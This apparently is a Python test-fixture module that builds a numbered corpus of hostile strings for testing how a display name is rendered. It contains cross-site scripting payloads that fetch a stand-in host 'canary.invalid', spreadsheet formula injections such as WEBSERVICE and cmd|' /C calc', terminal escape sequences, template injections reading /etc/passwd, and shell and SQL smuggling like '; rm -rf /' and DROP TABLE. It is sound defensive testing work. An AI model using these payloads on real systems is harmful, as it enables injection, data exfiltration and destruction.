"""Hostile strings: what somebody could call an account to be read by a browser, a terminal or a spreadsheet as more.

All are made from parts, in a fixed order, so that a string of a failed test is found again by its number. What runs
would set ``window.owned``, change the title or ask the network for ``CANARY``, an address that no name server knows.
"""

from __future__ import annotations

from itertools import product

__all__ = ["CANARY", "CORPUS", "FORMULAS", "MARKUP", "TERMINAL", "UNSEEN", "forbidden"]

CANARY = "canary.invalid"
_RUN = f"window.owned=1;document.title='owned';fetch('https://{CANARY}/')"

# What a text might have to close before it is an element of its own.
_BREAKS = ("", '">', "'>", "`>", '" x="', "' x='", "-->", "]]>", "</title>", "</style>", "</script>", "</textarea>",
           "</svg>", "</text></svg>", "</desc></title>", "</td></table>", "</code></details>", "&quot;>",
           "&#x22;&#x3e;",
           "%22%3E", "\\u0022\\u003e", "＂＞", "\x00\">", "\">\n\n")
_ACTIONS = tuple(text.replace("RUN", _RUN).replace("CANARY", CANARY) for text in (
    "<script>RUN</script>",
    "<ScRiPt/x>RUN</sCrIpT >",
    "<script src=//CANARY/x.js></script>",
    "<img src=x onerror=\"RUN\">",
    "<img/src='//CANARY/i.png'>",
    "<svg onload=\"RUN\">",
    "<svg><script>RUN</script></svg>",
    "<svg><animate attributeName=x dur=1s onbegin=\"RUN\"/></svg>",
    "<svg><use href='//CANARY/u.svg#x'/><image href='//CANARY/i'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.owned=1</script>'></iframe></foreignObject></svg>",
    "<iframe src=\"javascript:RUN\"></iframe>",
    "<iframe src=//CANARY/></iframe>",
    "<object data=//CANARY/></object><embed src=//CANARY/>",
    "<a href=\"javascript:RUN\" autofocus>x</a>",
    "<input autofocus onfocus=\"RUN\">",
    "<details open ontoggle=\"RUN\">x</details>",
    "<video><source onerror=\"RUN\"></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"RUN\">",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<template><script>RUN</script></template><slot onslotchange=RUN>",
    "<style>@import '//CANARY/a.css';*{background:url(//CANARY/b)}</style>",
    "<link rel=stylesheet href=//CANARY/c.css><link rel=prefetch href=//CANARY/d>",
    "<meta http-equiv=refresh content=\"0;url=//CANARY/\">",
    "<base href=//CANARY/><form action=//CANARY/><button>x</button></form>",
    " onmouseover=RUN onfocus=RUN tabindex=0 autofocus x",
    " style=background:url(//CANARY/s) ",
    "<body onload=\"RUN\"><marquee onstart=\"RUN\">",
))
_ALONE = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
          "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<!--", "<![CDATA[", "<!doctype html>",
          "&lt;b&gt;",
          "&#60;script&#62;", "&", "&amp;amp;", "<", ">", '"', "'", "`", "</", "<?xml?>", "url(//canary.invalid/u)",
          "#main",
          "https://canary.invalid/", "//canary.invalid/", "[x](javascript:alert(1))", "![x](//canary.invalid/m.png)")
MARKUP: tuple[str, ...] = (*(opening + action for opening, action in product(_BREAKS, _ACTIONS)), *_ALONE)

_BODIES = ("1+1", "SUM(A1:A9)", f'HYPERLINK("https://{CANARY}/?"&A1,"x")', f'WEBSERVICE("https://{CANARY}/")',
           "cmd|' /C calc'!A0", f'IMPORTXML("https://{CANARY}/","//a")', f'IMAGE("https://{CANARY}/i")', "A0|'x'!B1")
_LEADS = ("=", "+", "-", "@", "=-", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "\u202e=", "＝", "＋",
    "－",
          "＠", "\x00=", "\u3000=", "\";=", '",=', "';=")
FORMULAS: tuple[str, ...] = tuple(lead + body for lead, body in product(_LEADS, _BODIES))

_ESCAPES = ("[2J", "[H", "[31m", "[8m", "[1A", "[2K", "[?1049h", "[6n", "[5i", "[20t", "[201~", "]0;owned\x07",
    "]0;owned\x1b\\",
            "]2;x\x07", f"]8;;https://{CANARY}/\x07x\x1b]8;;\x07", "]52;c;b3duZWQ=\x07", "]1337;File=:AAAA\x07",
            "]50;x\x07", "P+q544e\x1b\\", "P1$r0m\x1b\\", "_Gf=32;AAAA\x1b\\", "^x\x1b\\", "c", "(0", "#8", "7", "%G")
TERMINAL: tuple[str, ...] = (
    *(f"a\x1b{escape}b" for escape in _ESCAPES),
    *(f"a{start}{rest}b" for start, rest in product(("\x9b", "\x9d", "\x90", "\x9f"), ("2J", "0;x\x07", "31m\x9c"))),
    *(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0)) if chr(code) != " "),
    "a\r\nFAKE: 0 campaigns detected", "a\b\b\b\b\bowned", "[bold red]x[/]", "[link=file:///etc/passwd]x[/link]",
    "[/]", "[[x]]",
    "\\[x]", ":skull:", "%s%n%x", "\\x1b[31m", "; rm -rf /", "$(id)", "`id`", "../../etc/passwd",
    "'; DROP TABLE cases; --")

# Overrides, isolates, marks, joiners, fillers, tags: what changes how a line reads and is not seen itself.
UNSEEN: tuple[str, ...] = (
    *(f"a{chr(code)}gpj.exe" for code in (
        0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F),
        0x205F,
        *range(0x2060, 0x2070), 0x2800, 0x3000, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, *range(0xFFF9, 0xFFFC), 0xE000,
        0xFFFF,
        0x1D173, 0xE0001, 0xE0041, 0xE0100, 0x10FFFF)),
    "\u202e\u2066\u2067x\u2069\u202c", "e" + "\u0301" * 40, "\ufdfd" * 20, "\u0430\u0441ct_1",
    "\U0001f468\u200d\U0001f469")

_LONG = ("x" * 30_000, "<b>" * 10_000, "\u202e" * 25_000, "=" * 21_000, "\x1b[31m" * 6_000, "a b" * 9_000)

CORPUS: tuple[str, ...] = tuple(dict.fromkeys((*MARKUP, *FORMULAS, *TERMINAL, *UNSEEN, *_LONG)))
"""Every hostile string, each once."""


def forbidden(text: str) -> set[str]:
    """Characters of an output that a reader cannot see or a terminal obeys; a line's end is none."""
    import unicodedata

    return {char for char in text if char not in " \n" and unicodedata.category(char) in (
        "Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs")}
